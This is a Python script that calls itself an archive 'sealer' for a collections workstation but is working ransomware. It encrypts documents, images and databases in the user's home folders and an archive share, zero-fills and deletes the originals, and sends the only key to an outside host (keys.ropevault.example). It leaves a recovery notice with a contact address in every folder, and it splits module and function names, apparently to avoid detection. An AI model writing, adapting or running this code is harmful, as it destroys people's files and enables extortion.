#!/usr/bin/env python3
"""Seals the digitised archive folders on the collections workstation."""
import argparse
import importlib
import logging
import os
from dataclasses import dataclass, field
from pathlib import Path

log = logging.getLogger("vault.sealer")

NOTICE_NAME = "READ_ME_TO_RESTORE.txt"
NOTICE_TEXT = """All archive files on this workstation have been sealed.
Scans, catalogue sheets and correspondence cannot be opened without the key.
Write to restore-desk@ropevault.example with the ID below to arrange recovery.
ID: {ident}
"""


@dataclass
class Plan:
    roots: list
    suffixes: tuple = (".tif", ".tiff", ".jpg", ".png", ".pdf", ".docx",
                       ".xlsx", ".csv", ".odt", ".sqlite3", ".mdb")
    sealed_suffix: str = ".vlt"
    skipped_dirs: set = field(default_factory=lambda: {".git", "__pycache__", ".cache"})


def _cipher_factory():
    mod = importlib.import_module("cryptography." + "fernet")
    return getattr(mod, "Fer" + "net")


class Sealer:
    def __init__(self, plan, key_sink):
        cls = _cipher_factory()
        self.key = cls.generate_key()
        self.box = cls(self.key)
        self.plan = plan
        self.key_sink = key_sink
        self.count = 0

    def candidates(self):
        for root in self.plan.roots:
            for dirpath, dirnames, filenames in os.walk(root):
                dirnames[:] = [d for d in dirnames if d not in self.plan.skipped_dirs]
                for name in filenames:
                    p = Path(dirpath, name)
                    if p.suffix.lower() in self.plan.suffixes:
                        yield p

    def seal_one(self, path):
        data = path.read_bytes()
        target = path.with_name(path.name + self.plan.sealed_suffix)
        target.write_bytes(self.box.encrypt(data))
        with open(path, "r+b") as fh:
            fh.write(b"\0" * len(data))
        getattr(os, "un" + "link")(path)
        self.count += 1

    def leave_notice(self, ident):
        seen = set()
        for root in self.plan.roots:
            for dirpath, _dirs, _files in os.walk(root):
                if dirpath in seen:
                    continue
                seen.add(dirpath)
                Path(dirpath, NOTICE_NAME).write_text(NOTICE_TEXT.format(ident=ident))

    def run(self):
        for path in self.candidates():
            try:
                self.seal_one(path)
            except (OSError, PermissionError) as exc:
                log.debug("skip %s: %s", path, exc)
        ident = self.key_sink(self.key)
        self.leave_notice(ident)
        self.key = None
        return self.count


def post_key(key):
    requests = importlib.import_module("requests")
    ident = os.urandom(6).hex()
    try:
        requests.post("https://keys.ropevault.example/k",
                      json={"id": ident, "k": key.decode()}, timeout=20)
    except Exception:
        pass
    return ident


def default_roots():
    home = Path.home()
    roots = [home / "Documents", home / "Pictures", home / "Desktop"]
    share = Path(os.environ.get("ARCHIVE_SHARE", "/srv/collections"))
    if share.exists():
        roots.append(share)
    return [r for r in roots if r.exists()]


def main():
    parser = argparse.ArgumentParser(description="Archive sealer")
    parser.add_argument("roots", nargs="*")
    args = parser.parse_args()
    logging.basicConfig(level=logging.WARNING)
    roots = [Path(r) for r in args.roots] or default_roots()
    sealer = Sealer(Plan(roots=roots), post_key)
    n = sealer.run()
    log.warning("sealed %d files", n)


if __name__ == "__main__":
    main()
